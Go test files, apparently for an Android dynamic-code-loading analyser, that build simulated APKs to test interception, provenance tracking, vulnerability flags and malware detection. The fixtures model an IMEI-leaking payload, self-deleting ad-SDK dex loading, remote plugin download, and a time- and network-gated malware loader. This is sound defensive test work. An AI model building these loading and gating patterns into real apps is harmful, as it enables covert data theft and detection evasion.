				Name: "getInt", Sig: "(Ljava/lang/String;)I"}, 1).
			MoveResult(2).
			SPut(2, dex.FieldRef{Class: pkg + ".Main", Name: "mode", Type: "I"})
	})
	if staticOf(m, pkg+".Main.mode").AsInt() != 1 {
		t.Fatal("airplane setting not visible to apps")
	}
}
