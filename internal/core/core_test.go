package core

import (
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/droidnative"
	"github.com/dydroid/dydroid/internal/mail"
	"github.com/dydroid/dydroid/internal/nativebin"
	"github.com/dydroid/dydroid/internal/netsim"
)

// payloadWithLeak builds a loadable dex whose class leaks IMEI via HTTP.
func payloadWithLeak(t *testing.T, class string) []byte {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class(class, "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
	m.NewInstance(1, "android.telephony.TelephonyManager").
		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
		MoveResult(2).
		NewInstance(3, "java.net.HttpURLConnection").
		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
			Name: "write", Sig: "(Ljava/lang/String;)V"}, 3, 2).
		ReturnVoid().Done()
	data, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// adSDKApp builds an app embedding a third-party ad SDK that extracts a
// payload dex from assets into the cache, loads it, then deletes it — the
// AdMob temporary-file pattern the interception queue must survive.
func adSDKApp(t *testing.T, pkg string, payload []byte) []byte {
	t.Helper()
	cachePath := android.InternalDir(pkg) + "cache/ad1.dex"
	assetPath := android.InternalDir(pkg) + "assets/ad_payload.bin"

	b := dex.NewBuilder()
	// Third-party SDK class performs the DCL.
	sdk := b.Class("com.google.ads.AdLoader", "java.lang.Object")
	lm := sdk.Method("loadAd", dex.ACCPublic, 10, "V")
	lm. // copy asset -> cache
		NewInstance(1, "java.io.FileInputStream").
		ConstString(2, assetPath).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, cachePath).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		// load it
		ConstString(6, android.InternalDir(pkg)+"cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			7, 4, 6, 0, 0).
		// delete the temporary file (DyDroid must block this)
		NewInstance(8, "java.io.File").
		InvokeDirect(dex.MethodRef{Class: "java.io.File", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 8, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.File", Name: "delete", Sig: "()Z"}, 8).
		ReturnVoid().
		Done()
	// App activity calls into the SDK.
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	am.NewInstance(1, "com.google.ads.AdLoader").
		InvokeVirtual(dex.MethodRef{Class: "com.google.ads.AdLoader", Name: "loadAd",
			Sig: "()V"}, 1).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"ad_payload.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestPipelineAdSDKInterception(t *testing.T) {
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")
	apkBytes := adSDKApp(t, "com.fun.game", payload)
	an := NewAnalyzer(Options{Seed: 1})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (crash: %v)", res.Status, res.Crash)
	}
	if !res.PreFilter.HasDexDCL {
		t.Fatal("pre-filter missed DCL code")
	}
	evs := res.DexEvents()
	if len(evs) != 1 {
		t.Fatalf("dex events = %d, want 1", len(evs))
	}
	ev := evs[0]
	if ev.Entity != EntityThirdParty || ev.CallSite != "com.google.ads.AdLoader" {
		t.Fatalf("entity attribution wrong: %+v", ev)
	}
	if ev.Provenance != ProvenanceLocal {
		t.Fatalf("asset-extracted file classified as %s", ev.Provenance)
	}
	if ev.Intercepted == nil || string(ev.Intercepted) != string(payload) {
		t.Fatal("payload not intercepted despite delete")
	}
	// Privacy analysis over the intercepted payload found the IMEI leak,
	// attributed exclusively to third-party code.
	if res.Privacy == nil || len(res.Privacy.Leaks) != 1 {
		t.Fatalf("privacy = %+v", res.Privacy)
	}
	if !res.PrivacyByEntity[string(android.DTIMEI)] {
		t.Fatal("IMEI leak should be exclusively third-party")
	}
}

// remoteLoaderApp downloads a payload from the URL and loads it (the
// Baidu ads pattern of Table V).
func remoteLoaderApp(t *testing.T, pkg, url string) []byte {
	t.Helper()
	dest := android.InternalDir(pkg) + "cache/plugin.jar"
	b := dex.NewBuilder()
	sdk := b.Class("com.baidu.mobads.RemoteLoader", "java.lang.Object")
	lm := sdk.Method("fetchAndLoad", dex.ACCPublic, 10, "V")
	lm.NewInstance(1, "java.net.URL").
		ConstString(2, url).
		InvokeDirect(dex.MethodRef{Class: "java.net.URL", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		InvokeVirtual(dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
			Sig: "()Ljava/net/URLConnection;"}, 1).
		MoveResult(3).
		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection", Name: "getInputStream",
			Sig: "()Ljava/io/InputStream;"}, 3).
		MoveResult(4).
		IfEqz(4, "offline").
		NewInstance(5, "java.io.FileOutputStream").
		ConstString(6, dest).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 5, 6).
		InvokeVirtual(dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
			Sig: "()[B"}, 4).
		MoveResult(7).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 5, 7).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 5).
		ConstString(8, android.InternalDir(pkg)+"cache/odex").
		NewInstance(9, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			9, 6, 8, 0, 0).
		Label("offline").
		ReturnVoid().Done()
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	am.NewInstance(1, "com.baidu.mobads.RemoteLoader").
		InvokeVirtual(dex.MethodRef{Class: "com.baidu.mobads.RemoteLoader",
			Name: "fetchAndLoad", Sig: "()V"}, 1).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Permissions: []apk.UsesPerm{{Name: "android.permission.INTERNET"}},
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestPipelineRemoteProvenance(t *testing.T) {
	const url = "http://mobads.baidu.com/ads/pa/plugin.jar"
	net := netsim.NewNetwork()
	net.Serve(url, netsim.Payload{Data: payloadWithLeak(t, "com.baidu.dynamic.Ads")})
	apkBytes := remoteLoaderApp(t, "com.classicalmuseumad.cnad", url)

	an := NewAnalyzer(Options{Seed: 1, Network: net})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (crash: %v)", res.Status, res.Crash)
	}
	evs := res.DexEvents()
	if len(evs) != 1 {
		t.Fatalf("events = %d", len(evs))
	}
	if evs[0].Provenance != ProvenanceRemote || evs[0].SourceURL != url {
		t.Fatalf("provenance = %s url = %s", evs[0].Provenance, evs[0].SourceURL)
	}
	if urls := res.RemoteURLs(); len(urls) != 1 || urls[0] != url {
		t.Fatalf("RemoteURLs = %v", urls)
	}
	if evs[0].Entity != EntityThirdParty {
		t.Fatalf("entity = %s", evs[0].Entity)
	}
}

func TestPipelineRemoteLoaderOfflineLoadsNothing(t *testing.T) {
	// Without a network, the defensive SDK skips loading: no DCL events.
	apkBytes := remoteLoaderApp(t, "com.no.net", "http://mobads.baidu.com/x.jar")
	an := NewAnalyzer(Options{Seed: 1}) // Network nil
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusCrash && len(res.DexEvents()) != 0 {
		t.Fatalf("offline loader produced events: %+v", res.DexEvents())
	}
}

// vulnExternalApp writes its bytecode to the SD card then loads it.
func vulnExternalApp(t *testing.T, pkg string, payload []byte) []byte {
	t.Helper()
	sdPath := android.ExternalRoot + "im_sdk/jar/yayavoice.jar"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
	am.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, android.InternalDir(pkg)+"assets/sdk.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, sdPath).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 3, 4).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 1).
		MoveResult(5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 3, 5).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 3).
		ConstString(6, android.InternalDir(pkg)+"cache/odex").
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			7, 4, 6, 0, 0).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Permissions: []apk.UsesPerm{{Name: apk.WriteExternalStorage}},
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"sdk.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestPipelineVulnerableExternalStorage(t *testing.T) {
	apkBytes := vulnExternalApp(t, "com.longtukorea.snmg", payloadWithLeak(t, "com.voice.Sdk"))
	an := NewAnalyzer(Options{Seed: 1})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (%v)", res.Status, res.Crash)
	}
	if len(res.Vulns) != 1 || res.Vulns[0].Kind != VulnExternalStorage || res.Vulns[0].Code != KindDex {
		t.Fatalf("vulns = %+v", res.Vulns)
	}
	// Own-code DCL: the activity itself loads.
	own, third := res.Entities(KindDex)
	if !own || third {
		t.Fatalf("entities own=%v third=%v", own, third)
	}
}

// adobeAirLoaderApp loads libCore.so from com.adobe.air's internal dir.
func adobeAirLoaderApp(t *testing.T, pkg string) []byte {
	t.Helper()
	libPath := android.InternalDir("com.adobe.air") + "lib/libCore.so"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	am.ConstString(1, libPath).
		InvokeStatic(dex.MethodRef{Class: "java.lang.System", Name: "load",
			Sig: "(Ljava/lang/String;)V"}, 1).
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func adobeAirCompanion(t *testing.T) *apk.APK {
	t.Helper()
	nb := nativebin.NewBuilder("libCore.so", "arm")
	nb.Symbol("JNI_OnLoad").MovI(0, 0).Ret()
	libBytes, err := nativebin.Encode(nb.Build())
	if err != nil {
		t.Fatal(err)
	}
	return &apk.APK{
		Manifest:   apk.Manifest{Package: "com.adobe.air", MinSDK: 14},
		NativeLibs: map[string][]byte{"libCore.so": libBytes},
	}
}

func TestPipelineVulnerableOtherAppInternal(t *testing.T) {
	companion := adobeAirCompanion(t)
	an := NewAnalyzer(Options{
		Seed: 1,
		SetupDevice: func(dev *android.Device) error {
			_, err := dev.Packages.Install(companion)
			return err
		},
	})
	res, err := an.AnalyzeAPK(adobeAirLoaderApp(t, "air.com.fire.ane.test.ANETest"))
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (%v)", res.Status, res.Crash)
	}
	if len(res.Vulns) != 1 || res.Vulns[0].Kind != VulnOtherAppInternal ||
		res.Vulns[0].OwnerPackage != "com.adobe.air" || res.Vulns[0].Code != KindNative {
		t.Fatalf("vulns = %+v", res.Vulns)
	}
}

func TestPipelineSystemLibSkipped(t *testing.T) {
	pkg := "com.sys.user"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
	am.ConstString(1, "ssl").
		InvokeStatic(dex.MethodRef{Class: "java.lang.System", Name: "loadLibrary",
			Sig: "(Ljava/lang/String;)V"}, 1).
		ReturnVoid().Done()
	dexBytes, _ := dex.Encode(b.File())
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex: dexBytes,
	}
	apkBytes, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	// Provision the system library on the device.
	nb := nativebin.NewBuilder("libssl.so", "arm")
	nb.Symbol("JNI_OnLoad").MovI(0, 0).Ret()
	libBytes, err := nativebin.Encode(nb.Build())
	if err != nil {
		t.Fatal(err)
	}
	an := NewAnalyzer(Options{
		Seed: 1,
		SetupDevice: func(dev *android.Device) error {
			return dev.Storage.WriteFile(android.SystemLibRoot+"libssl.so", libBytes, android.SystemOwner, false)
		},
	})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (%v)", res.Status, res.Crash)
	}
	if len(res.Events) != 0 {
		t.Fatalf("system-lib load not skipped: %+v", res.Events)
	}
	if len(res.Vulns) != 0 {
		t.Fatalf("system-lib load flagged vulnerable: %+v", res.Vulns)
	}
}

func TestPipelineStatusPaths(t *testing.T) {
	t.Run("no dcl", func(t *testing.T) {
		b := dex.NewBuilder()
		b.Class("com.plain.Main", "android.app.Activity").
			Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
		dexBytes, _ := dex.Encode(b.File())
		a := &apk.APK{Manifest: apk.Manifest{Package: "com.plain",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.plain.Main", Main: true}}}},
			Dex: dexBytes}
		data, _ := apk.Build(a)
		res, err := NewAnalyzer(Options{}).AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusNoDCL {
			t.Fatalf("status = %s", res.Status)
		}
	})
	t.Run("rewrite failure", func(t *testing.T) {
		b := dex.NewBuilder()
		m := b.Class("com.ar.Main", "android.app.Activity").
			Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;")
		m.NewInstance(1, "dalvik.system.DexClassLoader").ReturnVoid().Done()
		dexBytes, _ := dex.Encode(b.File())
		a := &apk.APK{Manifest: apk.Manifest{Package: "com.ar",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.ar.Main", Main: true}}}},
			Dex:   dexBytes,
			Extra: map[string][]byte{apk.AntiRepackEntry: {1}}}
		data, _ := apk.Build(a)
		res, err := NewAnalyzer(Options{}).AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusRewriteFailure {
			t.Fatalf("status = %s", res.Status)
		}
	})
	t.Run("no activity", func(t *testing.T) {
		b := dex.NewBuilder()
		m := b.Class("com.na.Svc", "android.app.Service").
			Method("onStart", dex.ACCPublic, 2, "V")
		m.NewInstance(1, "dalvik.system.DexClassLoader").ReturnVoid().Done()
		dexBytes, _ := dex.Encode(b.File())
		a := &apk.APK{Manifest: apk.Manifest{Package: "com.na",
			Application: apk.Application{Services: []apk.Component{{Name: "com.na.Svc"}}}},
			Dex: dexBytes}
		data, _ := apk.Build(a)
		res, err := NewAnalyzer(Options{}).AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusNoActivity {
			t.Fatalf("status = %s", res.Status)
		}
	})
	t.Run("crash", func(t *testing.T) {
		b := dex.NewBuilder()
		m := b.Class("com.cr.Main", "android.app.Activity").
			Method("onCreate", dex.ACCPublic, 3, "V", "Landroid/os/Bundle;")
		m.NewInstance(1, "dalvik.system.DexClassLoader").
			Const(1, 1).
			Const(2, 0).
			InvokeVirtual(dex.MethodRef{Class: "com.cr.Missing", Name: "nope", Sig: "()V"}, 1).
			ReturnVoid().Done()
		dexBytes, _ := dex.Encode(b.File())
		a := &apk.APK{Manifest: apk.Manifest{Package: "com.cr",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.cr.Main", Main: true}}}},
			Dex: dexBytes}
		data, _ := apk.Build(a)
		res, err := NewAnalyzer(Options{}).AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusCrash || res.Crash == nil {
			t.Fatalf("status = %s crash = %v", res.Status, res.Crash)
		}
	})
	t.Run("unpack failure", func(t *testing.T) {
		b := dex.NewBuilder()
		b.Class("com.adx.Main", "android.app.Activity").
			Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
		b.Class("com.adx.0decoy", "java.lang.Object")
		dexBytes, _ := dex.Encode(b.File())
		a := &apk.APK{Manifest: apk.Manifest{Package: "com.adx",
			Application: apk.Application{Activities: []apk.Component{{Name: "com.adx.Main", Main: true}}}},
			Dex: dexBytes}
		data, _ := apk.Build(a)
		res, err := NewAnalyzer(Options{}).AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		if res.Status != StatusUnpackFailure || !res.Obfuscation.AntiDecompile {
			t.Fatalf("res = %+v", res)
		}
	})
}

// gatedMalwareApp loads a malicious payload only when the network is up
// and the system time is past the release date.
func gatedMalwareApp(t *testing.T, pkg string, payload []byte, releaseMillis int64) []byte {
	t.Helper()
	cachePath := android.InternalDir(pkg) + "cache/upd.dex"
	b := dex.NewBuilder()
	act := b.Class(pkg+".Main", "android.app.Activity")
	am := act.Method("onCreate", dex.ACCPublic, 12, "V", "Landroid/os/Bundle;")
	am. // time gate
		InvokeStatic(dex.MethodRef{Class: "java.lang.System", Name: "currentTimeMillis",
			Sig: "()J"}).
		MoveResult(1).
		Const(2, releaseMillis).
		IfLt(1, 2, "skip").
		// network gate
		NewInstance(3, "android.net.ConnectivityManager").
		InvokeVirtual(dex.MethodRef{Class: "android.net.ConnectivityManager",
			Name: "getActiveNetworkInfo", Sig: "()Landroid/net/NetworkInfo;"}, 3).
		MoveResult(4).
		IfEqz(4, "skip").
		// copy payload from assets and load
		NewInstance(5, "java.io.FileInputStream").
		ConstString(6, android.InternalDir(pkg)+"assets/upd.bin").
		InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 5, 6).
		NewInstance(7, "java.io.FileOutputStream").
		ConstString(8, cachePath).
		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
			Sig: "(Ljava/lang/String;)V"}, 7, 8).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileInputStream", Name: "readAll",
			Sig: "()[B"}, 5).
		MoveResult(9).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
			Sig: "([B)V"}, 7, 9).
		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
			Sig: "()V"}, 7).
		ConstString(10, android.InternalDir(pkg)+"cache/odex").
		NewInstance(11, "dalvik.system.DexClassLoader").
		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
			11, 8, 10, 0, 0).
		Label("skip").
		ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	a := &apk.APK{
		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
		Dex:    dexBytes,
		Assets: map[string][]byte{"upd.bin": payload},
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestPipelineMalwareDetectionAndReplay(t *testing.T) {
	// Train the classifier on the malicious payload's family.
	payload := payloadWithLeak(t, "com.scm.Stealer")
	df, err := dex.Decode(payload)
	if err != nil {
		t.Fatal(err)
	}
	var clf droidnative.Classifier
	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
		t.Fatal(err)
	}

	release := time.Date(2016, 6, 1, 0, 0, 0, 0, time.UTC)
	apkBytes := gatedMalwareApp(t, "com.sktelecom.hoppin.mobile", payload, release.UnixMilli())
	an := NewAnalyzer(Options{Seed: 1, Classifier: &clf})

	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (%v)", res.Status, res.Crash)
	}
	if len(res.Malware) != 1 || res.Malware[0].Family != "Swiss code monkeys" {
		t.Fatalf("malware = %+v", res.Malware)
	}

	// Replay: time-before-release must suppress the load; location-off
	// must not.
	loaded, err := an.ReplayUnderConfig(apkBytes, ConfigTimeBeforeRelease, release)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 0 {
		t.Fatalf("time-gated load fired under pre-release clock: %v", loaded)
	}
	loaded, err = an.ReplayUnderConfig(apkBytes, ConfigAirplaneWiFiOff, release)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 0 {
		t.Fatalf("network-gated load fired offline: %v", loaded)
	}
	loaded, err = an.ReplayUnderConfig(apkBytes, ConfigLocationOff, release)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 1 {
		t.Fatalf("location-off wrongly suppressed the load: %v", loaded)
	}
	loaded, err = an.ReplayUnderConfig(apkBytes, ConfigAirplaneWiFiOn, release)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 1 {
		t.Fatalf("airplane+wifi-on should keep connectivity: %v", loaded)
	}
}

func TestAblationDeleteBlockingOffLosesTempFiles(t *testing.T) {
	// The ad SDK deletes its temporary dex after loading. With the
	// interception queue's blocking disabled (paper ablation), the dump
	// phase finds nothing, so the payload's privacy leaks go unseen.
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")
	apkBytes := adSDKApp(t, "com.ablation.app", payload)
	an := NewAnalyzer(Options{Seed: 1, DisableDeleteBlocking: true})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != StatusExercised {
		t.Fatalf("status = %s (%v)", res.Status, res.Crash)
	}
	evs := res.DexEvents()
	if len(evs) != 1 {
		t.Fatalf("DCL event still logged even without blocking, got %d", len(evs))
	}
	if evs[0].Intercepted != nil {
		t.Fatal("interception should fail once the temp file is deleted")
	}
	if res.Privacy != nil {
		t.Fatal("privacy analysis should have nothing to analyze")
	}
}

func TestPipelineStorageExhaustionRetry(t *testing.T) {
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")
	apkBytes := adSDKApp(t, "com.quota.app", payload)
	// Quota large enough for install+payload but the dydroid log pushes it
	// over; the retry path cleans LogRoot and succeeds.
	an := NewAnalyzer(Options{Seed: 1, StorageQuota: 1 << 20})
	res, err := an.AnalyzeAPK(apkBytes)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status == "" {
		t.Fatal("no status")
	}
}

func TestClassifyEntity(t *testing.T) {
	tests := []struct {
		app, site string
		want      Entity
	}{
		{"com.fun.game", "com.fun.game.Main", EntityOwn},
		{"com.fun.game", "com.fun.game", EntityOwn},
		{"com.fun.game", "com.google.ads.AdLoader", EntityThirdParty},
		{"com.fun.game", "com.fun.gamepad.X", EntityThirdParty},
		{"com.fun.game", "", EntityUnknown},
	}
	for _, tc := range tests {
		if got := classifyEntity(tc.app, tc.site); got != tc.want {
			t.Fatalf("classifyEntity(%q, %q) = %s, want %s", tc.app, tc.site, got, tc.want)
		}
	}
}

func TestTrackerProvenanceNegative(t *testing.T) {
	tr := NewTracker()
	if p, _ := tr.Provenance("/nowhere"); p != ProvenanceLocal {
		t.Fatalf("provenance of unknown path = %s", p)
	}
	if tr.FlowCount() != 0 {
		t.Fatal("flow count not zero")
	}
}

func TestLoggerLogWritten(t *testing.T) {
	dev := android.NewDevice()
	l := NewLogger("com.x", dev.Storage)
	l.OnClassLoaderInit("dalvik.system.DexClassLoader", "/data/data/com.x/cache/a.dex", "/odex", nil)
	logData, err := dev.Storage.ReadFile(LogRoot + "com.x.log")
	if err != nil {
		t.Fatalf("log not written: %v", err)
	}
	if !strings.Contains(string(logData), "a.dex") {
		t.Fatalf("log content = %q", logData)
	}
	if l.LogError() != nil {
		t.Fatalf("LogError = %v", l.LogError())
	}
}
