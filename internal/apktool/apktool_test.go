package apktool

import (
	"errors"
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
)

func buildTestAPK(t *testing.T, classNames []string, antiRepack bool, perms ...string) []byte {
	t.Helper()
	b := dex.NewBuilder()
	for _, name := range classNames {
		b.Class(name, "java.lang.Object").
			Method("m", dex.ACCPublic, 1, "V").ReturnVoid().Done()
	}
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	m := apk.Manifest{Package: "com.test", MinSDK: 16,
		Application: apk.Application{Activities: []apk.Component{{Name: "com.test.Main", Main: true}}}}
	for _, p := range perms {
		m.AddPermission(p)
	}
	a := &apk.APK{Manifest: m, Dex: dexBytes, Extra: map[string][]byte{}}
	if antiRepack {
		a.Extra[apk.AntiRepackEntry] = []byte{1}
	}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestUnpackProducesSmali(t *testing.T) {
	data := buildTestAPK(t, []string{"com.test.Main", "com.test.util.Helper"}, false)
	u, err := (Tool{}).Unpack(data)
	if err != nil {
		t.Fatalf("Unpack: %v", err)
	}
	if len(u.Smali()) != 2 {
		t.Fatalf("smali classes = %d, want 2", len(u.Smali()))
	}
	if !strings.Contains(u.Smali()["com.test.Main"], ".class public Lcom/test/Main;") {
		t.Fatalf("smali content wrong:\n%s", u.Smali()["com.test.Main"])
	}
	if u.Dex == nil || len(u.Dex.Classes) != 2 {
		t.Fatal("decoded dex missing")
	}
}

func TestUnpackNoDex(t *testing.T) {
	a := &apk.APK{Manifest: apk.Manifest{Package: "com.nodex"}}
	data, err := apk.Build(a)
	if err != nil {
		t.Fatal(err)
	}
	u, err := (Tool{}).Unpack(data)
	if err != nil {
		t.Fatalf("Unpack: %v", err)
	}
	if u.Dex != nil || len(u.Smali()) != 0 {
		t.Fatal("expected empty decompilation")
	}
}

func TestAntiDecompilationCrashesBuggyVersion(t *testing.T) {
	data := buildTestAPK(t, []string{"com.test.Main", "com.test.0hostile"}, false)
	if _, err := (Tool{Version: BuggyVersion}).Unpack(data); !errors.Is(err, ErrDecompile) {
		t.Fatalf("buggy version err = %v, want ErrDecompile", err)
	}
	// The fixed version handles it.
	u, err := (Tool{Version: FixedVersion}).Unpack(data)
	if err != nil {
		t.Fatalf("fixed version: %v", err)
	}
	if len(u.Smali()) != 2 {
